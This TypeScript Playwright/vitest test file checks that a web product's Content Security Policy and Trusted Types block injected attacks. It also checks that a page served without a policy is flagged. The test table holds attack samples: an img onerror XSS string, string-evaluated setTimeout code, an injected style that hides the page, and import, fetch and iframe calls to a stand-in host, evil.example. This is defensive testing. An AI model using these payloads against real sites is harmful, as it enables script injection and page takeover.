import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { signIn, startProduct, type Product } from './product';
import { watchPolicy } from './watchPolicy';

let product: Product;
let page: Page;
let policy: ReturnType<typeof watchPolicy>;

beforeAll(async () => {
  product = await startProduct();
  policy = watchPolicy(product.address);
  const context = await product.browser.newContext({ baseURL: product.address });
  await policy.watch(context);
  page = await context.newPage();
  await signIn(page);
});

afterAll(() => product.close());

/* Each is an attack; none of them may reach its end. */
it.each([
  ['a script of another host', 'script-src-elem', `import('https://evil.example/').catch(() => undefined)`],
  [
    'markup out of a text',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
    },
  ],
  ['a text that is run', 'require-trusted-types-for', `setTimeout('window.attacked = true')`],
  [
    'a style in the page',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  ],
  [
    'a call of another host',
    'connect-src',
    () => {
      void fetch('https://evil.example/').catch(() => undefined);
    },
  ],
  [
    'a page within the page',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
])('refuses %s, and makes the test fail in which it happens', async (_, directive, attack) => {
  const before = policy.faults().length;
  await page.evaluate<unknown>(attack).catch(() => undefined);
  await expect.poll(() => policy.faults().slice(before).join()).toContain(directive);
  expect(() => policy.expectNone()).toThrow(directive);
  await expect
    .poll(() =>
      page.evaluate(() => 'attacked' in window || getComputedStyle(document.body).display === 'none'),
    )
    .toBe(false);
});

it('notices a page that comes without a policy', async () => {
  await page.route('**/without', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Bare</title>' }),
  );
  await page.goto('/without');
  expect(() => policy.expectNone()).toThrow('/without came without a policy');
});
